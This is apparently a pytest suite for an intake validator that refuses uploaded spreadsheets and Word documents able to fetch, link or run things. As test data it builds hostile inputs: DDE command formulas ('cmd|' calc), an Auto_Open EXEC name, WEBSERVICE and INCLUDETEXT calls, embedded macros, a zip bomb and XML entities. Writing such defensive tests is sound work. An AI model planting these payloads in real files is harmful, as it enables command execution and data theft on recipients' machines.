"""Forms from outside: what could fetch, link or start something is refused before anybody opens it."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from openpyxl import Workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from app.intake import container, form_check
from app.intake.unreadable import Unreadable


def workbook(path: Path, *formulas: str, dress: Callable[[Workbook], object] = lambda book: None) -> Path:
    book = Workbook()
    page = book.active
    assert page is not None
    page["A1"] = "{{行.单位}}"
    for row, formula in enumerate(formulas, 2):
        page.cell(row, 2, formula)
    dress(book)
    book.save(path)
    return path


def also(path: Path, name: str, data: bytes) -> Path:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return path


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(B3:B9)",
        '=IF(A1>0,ROUND(A1*100,2),"无(见[附件])")',
        '=COUNTIF(明细!A:A,"已办")',
        "=A1+B1",
        "='一 季(度)'!B2",
    ],
)
def test_a_formula_that_counts_stays(tmp_path: Path, formula: str) -> None:
    form_check.check(workbook(tmp_path / "表.xlsx", formula))


@pytest.mark.parametrize(
    ("formula", "said"),
    [
        ('=WEBSERVICE("http://x/"&A1)', "B2 的公式.*WEBSERVICE"),
        ('=HYPERLINK("http://x","看")', "HYPERLINK"),
        ("=cmd|'/c calc'!A0", "别的文件或程序"),
        ("=[1]Sheet1!A1", "别的文件或程序"),
        ("=_xlfn.FILTERXML(A1,B1)", "FILTERXML"),
        ('=INDIRECT("A"&1)', "INDIRECT"),
        ('=IF(TRUE,EXEC("x"),0)', "EXEC"),
    ],
)
def test_a_formula_that_reaches_out_is_named_with_its_cell(tmp_path: Path, formula: str, said: str) -> None:
    with pytest.raises(Unreadable, match=said):
        form_check.check(workbook(tmp_path / "表.xlsx", formula))


def _name(book: Workbook) -> None:
    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text='EXEC("calc")')


def _condition(book: Workbook) -> None:
    page = book.active
    assert page is not None
    page.conditional_formatting.add("A1:A9", FormulaRule(formula=['WEBSERVICE("http://x")="1"']))


def _validation(book: Workbook) -> None:
    page = book.active
    assert page is not None
    one = DataValidation(type="custom", formula1='WEBSERVICE("http://x")')
    page.add_data_validation(one)
    one.add("A1")


@pytest.mark.parametrize("dress", [_name, _condition, _validation])
def test_formulas_of_names_conditions_and_checks_are_looked_at_too(
    tmp_path: Path, dress: Callable[[Workbook], object]
) -> None:
    with pytest.raises(Unreadable, match="不许用的函数"):
        form_check.check(workbook(tmp_path / "表.xlsx", dress=dress))


def _link(book: Workbook) -> None:
    page = book.active
    assert page is not None
    page["A3"].hyperlink = "http://example.com/x"


def test_a_link_to_the_outside_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Unreadable, match="指向外面的链接“http://example"):
        form_check.check(workbook(tmp_path / "表.xlsx", dress=_link))


@pytest.mark.parametrize(
    ("part", "said"),
    [
        ("xl/embeddings/oleObject1.bin", "嵌着别的文件"),
        ("xl/externalLinks/externalLink1.xml", "嵌着别的文件"),
        ("xl/connections.xml", "嵌着别的文件"),
        ("xl/vbaProject.bin", "宏程序"),
    ],
)
def test_embedded_things_and_macros_are_refused(tmp_path: Path, part: str, said: str) -> None:
    with pytest.raises(Unreadable, match=said):
        form_check.check(also(workbook(tmp_path / "表.xlsx"), part, b"<x/>"))


def test_a_bomb_and_a_broken_file_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(container, "MOST_UNPACKED", 2 << 20)
    with pytest.raises(Unreadable, match="异常庞大"):
        form_check.check(also(workbook(tmp_path / "表.xlsx"), "xl/worksheets/sheet9.xml", bytes(3 << 20)))
    (tmp_path / "坏.xlsx").write_bytes(b"PK\x03\x04 nothing")
    with pytest.raises(Unreadable, match="损坏"):
        form_check.check(tmp_path / "坏.xlsx")


def test_entities_are_refused(tmp_path: Path) -> None:
    evil = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'

    with pytest.raises(Unreadable, match="实体声明"):
        form_check.check(also(workbook(tmp_path / "表.xlsx"), "xl/evil.xml", evil))


def document(path: Path, *pieces: str) -> Path:
    from docx.oxml import OxmlElement

    made = Document()
    run = made.add_paragraph("{{单位}}").add_run()
    for piece in pieces:
        field = OxmlElement("w:instrText")
        field.text = piece
        run._r.append(field)
    made.save(str(path))
    return path


def test_a_document_may_number_its_pages_but_not_read_files(tmp_path: Path) -> None:
    form_check.check(document(tmp_path / "好.docx", " PAGE "))

    for pieces in ((' INCLUDETEXT "C:/x" ',), (" DDE", "AUTO c:/windows/cmd ")):
        with pytest.raises(Unreadable, match="会读别的文件的域"):
            form_check.check(document(tmp_path / "坏.docx", *pieces))
